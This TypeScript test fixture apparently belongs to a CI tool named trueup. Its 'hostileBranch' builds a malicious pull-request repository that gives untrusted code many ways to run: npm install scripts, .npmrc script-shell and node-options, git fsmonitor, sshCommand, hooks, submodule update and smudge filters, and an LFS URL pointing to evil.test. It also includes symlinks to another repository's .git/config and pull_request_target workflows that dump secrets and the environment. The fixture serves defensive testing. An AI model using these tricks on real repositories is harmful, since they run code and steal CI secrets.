import { chmodSync, existsSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { temporary } from './ledger-places.ts';
import { program } from './process.ts';
import { exampleWorkflow } from './site.ts';

const yaml = (header = '', fields = '') => `stack: site
platform: { team: acme }
${header}projects: { web: { framework: nextjs${fields} } }
`;

/**
 * A repository that uses trueup: its workflows, its lockfile, and the tool as a folder of its own (by default the built one), so that npm
 * installs it without a network.
 */
export function installable(
  tool = `#!/usr/bin/env node\nrequire(${JSON.stringify(program)});\n`,
  scripts: Record<string, string> = {},
): Record<string, string> {
  const bin = { trueup: 'trueup.cjs' };
  return {
    'trueup.yaml': yaml(),
    'package.json': JSON.stringify({ name: 'site', scripts, dependencies: { trueup: 'file:tool' } }),
    'package-lock.json': JSON.stringify({
      name: 'site',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'site', dependencies: { trueup: 'file:tool' } },
        'node_modules/trueup': { resolved: 'tool', link: true },
        tool: { name: 'trueup', version: '1.0.0', bin },
      },
    }),
    'tool/package.json': JSON.stringify({ name: 'trueup', version: '1.0.0', bin }),
    'tool/trueup.cjs': tool,
    '.github/workflows/validate.yml': exampleWorkflow('validate'),
    '.github/workflows/plan.yml': exampleWorkflow('plan'),
  };
}

/** The settings of npm on a machine without a network. */
export const npmEnv = () => ({
  npm_config_cache: temporary(),
  npm_config_offline: 'true',
  npm_config_audit: 'false',
  npm_config_update_notifier: 'false',
});

/** What a branch brings along in the hope that somebody runs it: whatever does writes its name, and the environment, to `ran`. */
export function hostileBranch(ran: string) {
  const bait = (name: string) => `echo ${name} >> '${ran}'; env >> '${ran}'`;
  const script = (name: string) => `#!/bin/sh\n${bait(name)}\n`;
  const node = (name: string) => `require('child_process').execSync(${JSON.stringify(bait(name))});\n`;
  const steal = (environment: string) => `on: [pull_request, pull_request_target]
jobs:
  steal:
    environment: ${environment}
    steps:
      - run: echo "$TOKEN $KEY" >> '${ran}'
        env: { TOKEN: "\${{ secrets.TRUEUP_TOKEN }}", KEY: "\${{ secrets.TRUEUP_LEDGER_KEY }}" }
`;
  const programs = {
    'evil.sh': script('script-shell'),
    'node_modules/.bin/git': script('git'),
    'node_modules/.bin/trueup': script('trueup'),
    'hooks/post-checkout': script('hook'),
  };
  /** A repository made of files, as git takes one where it finds no other. */
  const bare = (folder: string) => ({
    [`${folder}HEAD`]: 'ref: refs/heads/main\n',
    [`${folder}config`]: `[core]\n\tbare = true\n\tfsmonitor = ./evil.sh\n\tsshCommand = ./evil.sh\n\thooksPath = hooks\n`,
    [`${folder}objects/keep`]: '',
    [`${folder}refs/keep`]: '',
  });
  const files = {
    ...installable(`#!/usr/bin/env node\n${node('tool')}`, {
      preinstall: bait('preinstall'),
      prepare: bait('prepare'),
    }),
    // Sources that nobody has allowed. The plan goes on without them.
    'trueup.yaml': yaml(
      'secrets: { a: { file: ../base/.git/config }, b: { file: .git/config }, c: { file: link.txt }, d: { env: VAULT_TOKEN } }\n',
      ', env: { A: "${secret.a}", B: "${secret.b}", C: "${secret.c}", D: "${secret.d}" }',
    ),
    '.npmrc': `ignore-scripts=false\nscript-shell=./evil.sh\nnode-options=--require ./evil.cjs\n`,
    'evil.cjs': node('node-options'),
    ...programs,
    ...bare(''),
    ...bare('bare/'),
    '.gitattributes': '* filter=evil diff=evil\n',
    '.gitmodules': '[submodule "evil"]\n\tpath = evil\n\turl = ./bare\n\tupdate = !./evil.sh\n',
    '.gitconfig': '[filter "evil"]\n\tsmudge = ./evil.sh\n\trequired = true\n',
    '.lfsconfig': '[lfs]\n\turl = https://evil.test\n',
    '.github/workflows/validate.yml': steal('plan'),
    '.github/workflows/plan.yml': steal('production'),
  };
  const links = { 'link.txt': '../base/.git/config', '.trueup': '../base/.git', base: '../base' };
  const finish = (desk: string) => {
    for (const name of Object.keys(programs)) chmodSync(join(desk, name), 0o755);
    for (const [name, target] of Object.entries(links))
      if (!existsSync(join(desk, name))) symlinkSync(target, join(desk, name));
  };
  return { files, finish };
}
